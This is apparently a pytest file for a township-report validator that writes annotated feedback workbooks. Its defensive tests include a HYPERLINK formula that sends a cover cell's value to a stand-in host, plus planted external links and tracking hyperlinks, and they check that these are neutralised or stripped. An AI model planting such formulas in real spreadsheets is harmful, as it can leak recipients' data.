"""Each town's feedback in its own workbook: `--annotate OUTDIR` writes a copy of every return
with findings, each finding's cell filled by severity with a 批注 carrying the message, and a
first sheet 审核意见 listing them with links. The input is never touched."""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from shuangfu_cli.writing.annotate import FILLS, SHEET
from shuangfu_cli.writing.fill import locate

SAMPLES = Path(__file__).resolve().parent.parent / "sample_returns"


def _cli(*args) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "shuangfu_cli", *map(str, args)],
        capture_output=True,
        text=True,
        timeout=300,
        stdin=subprocess.DEVNULL,
    )


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _flawed(f, lists, cover):
    f["EDU_COLLEGE_FUNDED"] = f["EDU_COLLEGE_ELIGIBLE"] + 2  # an error
    lists["workshops"][0]["poor"] = 0  # and a warning on the list (few poor workers)


@pytest.mark.parametrize("fmt", ["xlsx", "xls", "ods"])
def test_each_finding_is_marked_at_its_cell_and_listed_on_the_review_sheet(
    make_return, resave, tmp_path, fmt
):
    made = make_return("柏梓镇", "2020Q3", _flawed)
    path = made if fmt == "xlsx" else resave(made, fmt)
    before = _sha(path)
    out = tmp_path / "feedback"
    result = _cli("validate", path, "--annotate", out, "--format", "json")
    assert result.returncode == 1, result.stderr
    doc = json.loads(result.stdout)
    findings = doc["returns"][0]["findings"]
    assert {f["code"] for f in findings} >= {"E_FUNDED_ABOVE_ELIGIBLE"}
    target = out / f"{path.stem}_审核意见.xlsx"
    assert doc["annotated"] == [str(target)]
    assert _sha(path) == before  # the input is only read

    wb = load_workbook(target)
    assert wb.sheetnames[0] == SHEET and wb.active.title == SHEET
    for f in findings:
        if not f["cell"]:
            continue
        cell = wb[f["sheet"]][f["cell"]]
        assert f["code"] in cell.comment.text and f["message"] in cell.comment.text
        kind = "error" if f["severity"] == "error" else "warning"
        assert cell.fill.fgColor.rgb.endswith(FILLS[kind])
    review = wb[SHEET]
    rows = [[c.value for c in row] for row in review.iter_rows(min_row=9, max_col=7)]
    listed = [(r[2], r[3], r[4]) for r in rows if isinstance(r[0], int)]
    assert listed == [(f["sheet"], f["cell"] or "—", f["code"]) for f in findings]
    links = [c.hyperlink.location or c.hyperlink.target for c in review["D"] if c.hyperlink]
    assert any(f["cell"] in link for link in links for f in findings if f["cell"])
    assert "不通过" in " ".join(str(c.value) for c in review["A"][:8])
    if fmt != "xlsx":  # carried over: every sheet of the return with its values
        source = load_workbook(made, data_only=True)
        assert set(source.sheetnames) <= set(wb.sheetnames)
        cell = locate(made, "EDU_COLLEGE_FUNDED")
        assert wb[cell[0]][cell[1]].value == source[cell[0]][cell[1]].value


def test_libreoffice_opens_the_copy_with_its_comments(make_return, resave, tmp_path):
    path = make_return("柏梓镇", "2020Q3", _flawed)
    out = tmp_path / "feedback"
    assert _cli("validate", path, "--annotate", out).returncode == 1
    ods = resave(out / f"{path.stem}_审核意见.xlsx", "ods")
    with zipfile.ZipFile(ods) as zf:
        content = zf.read("content.xml").decode()
    assert content.count("<office:annotation") >= 2
    assert "E_FUNDED_ABOVE_ELIGIBLE" in content


def test_a_finding_without_a_cell_is_on_the_review_sheet_only(tmp_path):
    src = SAMPLES / "2020Q4" / "龙形镇_2020Q4.xlsx"
    out = tmp_path / "feedback"
    result = _cli("validate", src, "--annotate", out)
    assert result.returncode == 1
    wb = load_workbook(out / "龙形镇_2020Q4_审核意见.xlsx")
    codes = [r[4] for r in wb[SHEET].iter_rows(min_row=9, values_only=True) if r[0]]
    assert "E_VILLAGE_MISSING" in codes
    row = next(
        r for r in wb[SHEET].iter_rows(min_row=9, values_only=True) if r[4] == "E_VILLAGE_MISSING"
    )
    assert row[3] == "—"


def test_returns_without_findings_get_no_copy_and_a_folder_of_returns_is_refused(tmp_path):
    folder = SAMPLES / "2020Q4"
    hashes = {p: _sha(p) for p in folder.iterdir()}
    out = tmp_path / "feedback"
    result = _cli("validate", folder, "--annotate", out, "-q")
    made = sorted(p.name for p in out.iterdir())
    assert made == [
        f"{t}_2020Q4_审核意见.xlsx" for t in ("上和镇", "古溪镇", "宝龙镇", "米心镇", "龙形镇")
    ], result.stdout
    inside = folder / "审核意见"
    refused = _cli("validate", folder, "--annotate", inside)
    assert refused.returncode == 2 and "报表文件夹" in refused.stderr
    assert not inside.exists()
    assert {p: _sha(p) for p in folder.iterdir()} == hashes


def test_rollup_writes_the_same_feedback_for_the_towns_it_read(tmp_path):
    """As `validate --period 2020Q4`: 花岩镇, whose return still says 2020Q3, is told so."""
    out = tmp_path / "feedback"
    result = _cli("rollup", SAMPLES / "2020Q4", "--period", "2020Q4", "--annotate", out)
    assert result.returncode == 1, result.stderr
    made = sorted(p.name for p in out.iterdir())
    towns = ("上和镇", "古溪镇", "宝龙镇", "米心镇", "花岩镇", "龙形镇")
    assert made == [f"{t}_2020Q4_审核意见.xlsx" for t in towns]
    wb = load_workbook(out / "上和镇_2020Q4_审核意见.xlsx")
    assert "E_PART_ABOVE_TOTAL" in wb["附件4 就业"]["C21"].comment.text
    wb = load_workbook(out / "花岩镇_2020Q4_审核意见.xlsx")
    assert "E_PERIOD_MISMATCH" in wb["封面"]["B4"].comment.text
    assert wb["封面"]["B4"].fill.fgColor.rgb.endswith(FILLS["error"])


def test_rollup_gives_a_return_of_another_quarter_its_feedback_and_lists_it(make_return, tmp_path):
    """柏梓镇's Q3 return (with an error) beside its Q4 one, and 玉溪镇's Q4 file whose cover
    still says 2020Q3: neither is counted, each gets its copy and its findings in 问题清单,
    marked 未计入 with why — as `validate` gives the same files their copies."""
    folder = tmp_path / "returns"
    folder.mkdir()
    make_return("柏梓镇", "2020Q4", name="returns/柏梓镇_2020Q4.xlsx")
    make_return("柏梓镇", "2020Q3", _flawed, name="returns/柏梓镇_2020Q3.xlsx")
    make_return("玉溪镇", "2020Q3", name="returns/玉溪镇_2020Q4.xlsx")
    out, book = tmp_path / "feedback", tmp_path / "区汇总.xlsx"
    args = ("rollup", folder, "--period", "2020Q4", "-o", book, "--annotate", out)
    result = _cli(*args)
    assert result.returncode == 1, result.stderr
    made = sorted(p.name for p in out.iterdir())
    assert made == ["柏梓镇_2020Q3_审核意见.xlsx", "玉溪镇_2020Q4_审核意见.xlsx"]
    wb = load_workbook(out / "柏梓镇_2020Q3_审核意见.xlsx")
    sheet, cell = locate(folder / "柏梓镇_2020Q3.xlsx", "EDU_COLLEGE_FUNDED")
    assert "E_FUNDED_ABOVE_ELIGIBLE" in wb[sheet][cell].comment.text
    wb = load_workbook(out / "玉溪镇_2020Q4_审核意见.xlsx")
    assert "E_PERIOD_MISMATCH" in wb["封面"]["B4"].comment.text
    rows = [r for r in load_workbook(book)["问题清单"].iter_rows(min_row=4, values_only=True)]
    listed = {(r[0], r[1], r[7]) for r in rows if r[7]}
    assert listed >= {
        (
            "柏梓镇",
            "柏梓镇_2020Q3.xlsx（未计入：报告期为2020Q3，不是2020Q4）",
            "E_FUNDED_ABOVE_ELIGIBLE",
        ),
        (
            "玉溪镇",
            "玉溪镇_2020Q4.xlsx（未计入：报告期不符：封面为2020Q3，文件名为2020Q4，不计入任何季度）",
            "E_PERIOD_MISMATCH",
        ),
    }
    # what validate of the same files makes: the same copies
    again = tmp_path / "again"
    _cli("validate", folder, "--period", "2020Q4", "--annotate", again, "-q")
    assert sorted(p.name for p in again.iterdir()) == made


# --- the copy is of what was checked, and carries nothing out --------------------------------


def test_the_copy_is_made_of_the_bytes_that_were_checked(make_return, tmp_path, monkeypatch):
    """A return replaced on disk between its check and its copy: the copy is still of the
    return that was checked (kept by the run), or — when the run kept only its SHA-256 — no
    copy is made and the reason says why; a file still the same is copied from disk."""
    import shuangfu_cli.check.many_returns as many_returns
    from shuangfu_cli.check.many_returns import validate_files
    from shuangfu_cli.writing.annotate import annotate

    (tmp_path / "returns").mkdir()
    checked = make_return("柏梓镇", "2020Q3", _flawed, name="returns/柏梓镇_2020Q3.xlsx")
    other = make_return("玉溪镇", "2020Q3", name="玉溪镇_2020Q3.xlsx")
    sheet, cell = locate(checked, "EDU_COLLEGE_FUNDED")
    funded = load_workbook(checked)[sheet][cell].value
    town = locate(checked, ("cover", "town"))

    def run(out, keep_max):
        monkeypatch.setattr(many_returns, "KEPT_BYTES_MAX", keep_max)
        original = checked.read_bytes()
        reports, _ = validate_files([checked], keep_checked=True)
        checked.write_bytes(other.read_bytes())  # the town sends a new file meanwhile
        try:
            return reports, annotate(reports, out, [checked.parent], "zh")
        finally:
            checked.write_bytes(original)

    reports, (written, failed) = run(tmp_path / "kept", many_returns.KEPT_BYTES_MAX)
    assert failed == [] and len(written) == 1
    copy = load_workbook(written[0])
    assert copy[town[0]][town[1]].value == "柏梓镇"  # not 玉溪镇's workbook
    assert copy[sheet][cell].value == funded
    assert "E_FUNDED_ABOVE_ELIGIBLE" in copy[sheet][cell].comment.text

    reports, (written, failed) = run(tmp_path / "hashed", 0)
    assert reports[0].checked is None and reports[0].digest
    assert written == [] and len(failed) == 1 and "替换" in failed[0][1]
    assert not (tmp_path / "hashed").exists() or not any((tmp_path / "hashed").iterdir())

    monkeypatch.setattr(many_returns, "KEPT_BYTES_MAX", 0)  # the same file, read again: copied
    reports, _ = validate_files([checked], keep_checked=True)
    written, failed = annotate(reports, tmp_path / "same", [checked.parent], "en")
    assert failed == [] and load_workbook(written[0])[town[0]][town[1]].value == "柏梓镇"


FORMULA_TEXT = '=HYPERLINK("http://x.invalid/?"&封面!B3,"点我")'


def _formulas(path: Path) -> list[str]:
    """The text of every formula in a workbook's sheets."""
    import html
    import re

    with zipfile.ZipFile(path) as zf:
        return [
            f
            for name in zf.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
            for f in map(
                html.unescape, re.findall(r"<f(?:\s[^>]*)?>([^<]*)</f>", zf.read(name).decode())
            )
        ]


def _text_cells(path: Path) -> dict[str, str]:
    """Every text cell's value and where it is, as a program opening the file reads it."""
    wb = load_workbook(path)
    return {
        c.value: f"{ws.title}!{c.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "s" and isinstance(c.value, str)
    }


@pytest.mark.libreoffice
def test_text_stays_text_in_every_workbook_written(make_return, lo_type, tmp_path):
    """Text a clerk typed that looks like a formula (=1+1, =HYPERLINK(…)) or an error value
    (#N/A), in an .xls and an .ods saved by a spreadsheet program: the feedback copy carried
    over to .xlsx, the rollup workbook and the district's own return hold it as text."""

    def mutate(f, lists, cover):
        lists["workshops"][0]["poor"] = 0  # a warning: still counted, and given a copy
        lists["explanations"] = [{"code": "MARK", "subject": "x", "text": "y"}]

    made = make_return("柏梓镇", "2020Q3", mutate)
    edits = [
        [*locate(made, ("explanations", 0, "code")), "'" + FORMULA_TEXT],
        [*locate(made, ("cover", "preparer")), "'=1+1"],
        [*locate(made, ("cover", "reviewer")), "'#N/A"],
    ]
    typed = lo_type(made, edits, ("xls", "ods"))
    folder = tmp_path / "returns"
    folder.mkdir()
    shutil.copy(typed["ods"], folder / "=1+1柏梓镇.ods")  # a name that looks like a formula too
    book, own, out = tmp_path / "区汇总.xlsx", tmp_path / "区级报表.xlsx", tmp_path / "feedback"
    args = ("rollup", folder, "--period", "2020Q3", "-o", book, "--as-return", own)
    result = _cli(*args, "--annotate", out)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    checked = _cli("validate", typed["xls"], "--annotate", out)
    assert checked.returncode == 0, checked.stdout

    copies = sorted(out.iterdir())
    assert [p.suffix for p in copies] == [".xlsx", ".xlsx"]
    for written in (*copies, book, own):
        assert not [f for f in _formulas(written) if "HYPERLINK" in f or "1+1" in f], written
    for copy in copies:
        texts = _text_cells(copy)
        assert {FORMULA_TEXT, "=1+1", "#N/A"} <= set(texts), copy
    assert "=1+1柏梓镇.ods" in _text_cells(book)
    assert FORMULA_TEXT in _text_cells(own)  # the explanation's code, carried up as text


def _external_parts(path: Path) -> None:
    """The return with what a workbook can point outside with, as Excel stores it: a link to
    another workbook (xl/externalLinks, a file:// target) used by a formula, a defined name and
    an input list; a HYPERLINK formula; hyperlinks to a file and a web page; and a link to a
    cell of its own (which stays)."""
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation
    from openpyxl.worksheet.hyperlink import Hyperlink

    wb = load_workbook(path)
    ws = wb["封面"]
    ws["H1"] = "=[1]Sheet1!$A$1"
    ws["H2"] = FORMULA_TEXT
    ws["H3"] = "file"
    ws["H3"].hyperlink = "file:///C:/内部/名单.xlsx"
    ws["H4"] = "web"
    ws["H4"].hyperlink = "http://x.invalid/track"
    ws["H5"] = "inside"
    ws["H5"].hyperlink = Hyperlink(ref="H5", location="'附件3 教育'!A1")
    dv = DataValidation(type="list", formula1="[1]Sheet1!$A$1:$A$3")
    dv.add("H6")
    ws.add_data_validation(dv)
    wb.defined_names["外部数"] = DefinedName("外部数", attr_text="[1]Sheet1!$A$1")
    wb.defined_names["两倍"] = DefinedName("两倍", attr_text="外部数*2")  # uses the link too
    ws["H7"] = "=外部数+1"
    wb.save(path)
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
        '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>7</v></cell></row>'
        "</sheetData></sheetDataSet></externalBook></externalLink>"
    )
    link_rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/externalLinkPath" Target="file:///C:/%E5%86%85%E9%83%A8/other.xlsx" '
        'TargetMode="External"/></Relationships>'
    )
    data = path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(path, "w") as zout:
        for info in zin.infolist():
            part = zin.read(info).decode()
            if info.filename == "[Content_Types].xml":
                part = part.replace(
                    "</Types>",
                    '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType='
                    '"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink'
                    '+xml"/></Types>',
                )
            elif info.filename == "xl/_rels/workbook.xml.rels":
                part = part.replace(
                    "</Relationships>",
                    '<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/'
                    'officeDocument/2006/relationships/externalLink" '
                    'Target="externalLinks/externalLink1.xml"/></Relationships>',
                )
            elif info.filename == "xl/workbook.xml":
                part = part.replace(
                    "</sheets>",
                    '</sheets><externalReferences><externalReference r:id="rIdX1" '
                    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                    'relationships"/></externalReferences>',
                )
            elif "<f>[1]Sheet1!$A$1</f>" in part:  # the values the formulas showed
                part = part.replace("<f>[1]Sheet1!$A$1</f><v></v>", "<f>[1]Sheet1!$A$1</f><v>7</v>")
                part = part.replace("+1</f><v></v>", "+1</f><v>8</v>")
                part = part.replace('<c r="H2"><f>', '<c r="H2" t="str"><f>').replace(
                    '"&#28857;&#25105;")</f><v></v>', '"&#28857;&#25105;")</f><v>点我</v>'
                )
            zout.writestr(info, part)
        zout.writestr("xl/externalLinks/externalLink1.xml", link)
        zout.writestr("xl/externalLinks/_rels/externalLink1.xml.rels", link_rels)


def test_nothing_active_or_outward_pointing_goes_back_to_a_town(make_return, tmp_path):
    path = make_return("柏梓镇", "2020Q3", _flawed)
    _external_parts(path)
    with zipfile.ZipFile(path) as zf:  # the return as the town sent it points outside
        assert "xl/externalLinks/externalLink1.xml" in zf.namelist()
    out = tmp_path / "feedback"
    result = _cli("validate", path, "--annotate", out)
    assert result.returncode == 1, result.stderr
    (copy,) = out.iterdir()
    with zipfile.ZipFile(copy) as zf:
        names = zf.namelist()
        package = "\n".join(zf.read(n).decode("utf-8", "replace") for n in names)
    assert not [n for n in names if "externalLink" in n]
    assert 'TargetMode="External"' not in package
    for outside in ("file:", "x.invalid", "内部", "%E5%86%85"):
        assert outside not in package
    assert not [f for f in _formulas(copy) if "[1]" in f or "HYPERLINK" in f]
    # the form's own formulas stay (its period line holds "|3|6|9|12|": text, not DDE)
    assert sorted(_formulas(copy)) == sorted(
        f for f in _formulas(path) if not ("[1]" in f or "HYPERLINK" in f or "外部数" in f)
    )
    wb = load_workbook(copy)
    assert "外部数" not in wb.defined_names and "两倍" not in wb.defined_names
    assert "EDU_COLLEGE_FUNDED" in wb.defined_names  # the form's own names stay
    cover = wb["封面"]
    shown = (cover["H1"].value, cover["H2"].value, cover["H7"].value)
    assert shown == (7, "点我", 8)  # the values they showed
    assert cover["H3"].hyperlink is None and cover["H4"].hyperlink is None
    assert cover["H3"].value == "file"  # the text stays
    assert cover["H5"].hyperlink.location == "'附件3 教育'!A1"
    lists = [dv.formula1 for dv in cover.data_validations.dataValidation]
    assert lists and not [f for f in lists if "[1]" in (f or "")]  # the form's own checks stay
    sheet, cell = locate(path, "EDU_COLLEGE_FUNDED")
    assert "E_FUNDED_ABOVE_ELIGIBLE" in wb[sheet][cell].comment.text
    review = [c.hyperlink for c in wb[SHEET]["D"] if c.hyperlink]
    assert review and all(link.location and not link.target for link in review)


@pytest.mark.parametrize("named", [".xls", ".et", ".ods"])
def test_a_return_gets_its_copy_whatever_its_name_says(make_return, resave, tmp_path, named):
    """The copy is made by content, as the return is read: an .xlsx named .xls or .et (WPS),
    and an .xls named .xlsx."""
    made = make_return("柏梓镇", "2020Q3", _flawed)
    source = resave(made, "xls") if named == ".ods" else made  # .xls content, misnamed below
    path = tmp_path / ("柏梓镇_2020Q3" + (".xlsx" if named == ".ods" else named))
    shutil.copy(source, path)
    out = tmp_path / "feedback"
    result = _cli("validate", path, "--annotate", out, "--format", "json")
    assert result.returncode == 1, result.stderr
    target = out / "柏梓镇_2020Q3_审核意见.xlsx"
    assert json.loads(result.stdout)["annotated"] == [str(target)]
    wb = load_workbook(target)
    sheet, cell = locate(made, "EDU_COLLEGE_FUNDED")
    assert "E_FUNDED_ABOVE_ELIGIBLE" in wb[sheet][cell].comment.text


def test_a_long_return_name_gets_a_copy_whose_name_fits(make_return, tmp_path):
    """Names at the file system's limit (255 bytes; Chinese is 3 bytes a character): each copy
    has a name that fits, shortened at a character's end, and two returns whose names differ
    only past the cut still get a copy each."""
    folder = tmp_path / "returns"
    folder.mkdir()
    filler = "扶" * 77  # 231 bytes
    stems = [f"{filler}柏梓镇甲_2020Q3", f"{filler}柏梓镇乙_2020Q3"]
    for stem in stems:
        assert len(f"{stem}.xlsx".encode()) == 255
        made = make_return("柏梓镇", "2020Q3", _flawed, name=f"returns/{stem}.xlsx")
    sheet, cell = locate(made, "EDU_COLLEGE_FUNDED")
    out = tmp_path / "feedback"
    result = _cli("validate", folder, "--annotate", out, "--format", "json")
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    made = sorted(out.iterdir())
    assert len(made) == 2 and made == sorted(map(Path, json.loads(result.stdout)["annotated"]))
    for copy in made:
        assert len(copy.name.encode()) <= 255 and copy.name.endswith("_审核意见.xlsx")
        assert copy.name.startswith(filler)
        wb = load_workbook(copy)
        assert "E_FUNDED_ABOVE_ELIGIBLE" in wb[sheet][cell].comment.text
    assert not list(out.glob(".*"))  # no temporary file left
